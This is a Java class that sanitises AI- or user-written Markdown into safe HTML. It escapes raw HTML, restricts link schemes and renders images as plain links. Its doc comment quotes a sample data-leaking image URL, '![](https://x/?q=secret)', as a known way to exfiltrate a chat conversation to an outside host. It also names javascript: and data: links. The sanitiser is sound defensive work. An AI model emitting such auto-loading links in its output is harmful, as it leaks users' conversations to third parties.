package dev.talon.ai.markdown;

import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.Node;
import org.commonmark.node.Text;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.NodeRenderer;
import org.commonmark.renderer.html.HtmlNodeRendererContext;
import org.commonmark.renderer.html.HtmlRenderer;
import org.commonmark.renderer.html.HtmlWriter;
import org.commonmark.renderer.html.UrlSanitizer;

/**
 * Markdown from a model or a user, rendered to HTML that can't run anything: raw HTML (blocks and
 * inline) is escaped, links keep only {@code http}, {@code https} and {@code mailto} targets
 * (anything else, e.g. {@code javascript:} or {@code data:}, becomes an empty href), and images
 * are not loaded at all: they become plain links, because an auto-loading
 * {@code ![](https://x/?q=secret)} is a way to exfiltrate the conversation. Sanitising happens in
 * the renderer itself, after parsing, so no later step can undo it.
 *
 * <p>Thread-safe: commonmark's parser and renderer are immutable.
 */
public final class SafeMarkdown {

    private static final Set<String> SCHEMES = Set.of("http", "https", "mailto");

    private final Parser parser = Parser.builder().build();
    private final HtmlRenderer renderer = HtmlRenderer.builder()
            .escapeHtml(true)
            .sanitizeUrls(true)
            .urlSanitizer(new SchemeAllowList())
            .nodeRendererFactory(ImageAsLink::new)
            .attributeProviderFactory(ctx -> (node, tag, attributes) -> {
                if (node instanceof Link) {
                    attributes.put("rel", "nofollow noopener noreferrer");
                    attributes.put("target", "_blank");
                }
            })
            .build();

    /** The HTML for {@code markdown}; never null. */
    public String render(String markdown) {
        if (markdown == null || markdown.isEmpty()) {
            return "";
        }
        return renderer.render(parser.parse(markdown));
    }

    /** Whether a link target is one a browser may follow from an answer. */
    static boolean allowed(String url) {
        String u = url.strip();
        int colon = u.indexOf(':');
        int slash = u.indexOf('/');
        if (colon < 0 || (slash >= 0 && slash < colon)) {
            return !u.startsWith("//"); // relative link: stays on the panel
        }
        // Browsers ignore tabs and newlines inside a scheme ("java\tscript:"); so must we.
        String scheme = u.substring(0, colon).replaceAll("[\\s\\u0000-\\u001f]", "").toLowerCase(Locale.ROOT);
        return SCHEMES.contains(scheme);
    }

    private static final class SchemeAllowList implements UrlSanitizer {
        @Override
        public String sanitizeLinkUrl(String url) {
            return allowed(url) ? url : "";
        }

        @Override
        public String sanitizeImageUrl(String url) {
            return sanitizeLinkUrl(url);
        }
    }

    /** Renders {@code ![alt](url)} as a link with the alt text: nothing loads by itself. */
    private static final class ImageAsLink implements NodeRenderer {
        private final HtmlNodeRendererContext context;
        private final HtmlWriter html;

        ImageAsLink(HtmlNodeRendererContext context) {
            this.context = context;
            this.html = context.getWriter();
        }

        @Override
        public Set<Class<? extends Node>> getNodeTypes() {
            return Set.of(Image.class);
        }

        @Override
        public void render(Node node) {
            Image image = (Image) node;
            String url = allowed(image.getDestination()) ? context.encodeUrl(image.getDestination()) : "";
            Map<String, String> attributes = new LinkedHashMap<>();
            attributes.put("href", url);
            attributes.put("class", "ai-image-link");
            attributes.put("rel", "nofollow noopener noreferrer");
            attributes.put("target", "_blank");
            html.tag("a", context.extendAttributes(node, "a", attributes));
            StringBuilder alt = new StringBuilder();
            for (Node child = image.getFirstChild(); child != null; child = child.getNext()) {
                if (child instanceof Text text) {
                    alt.append(text.getLiteral());
                }
            }
            html.text("[image: " + (alt.isEmpty() ? url : alt) + "]");
            html.tag("/a");
        }
    }
}
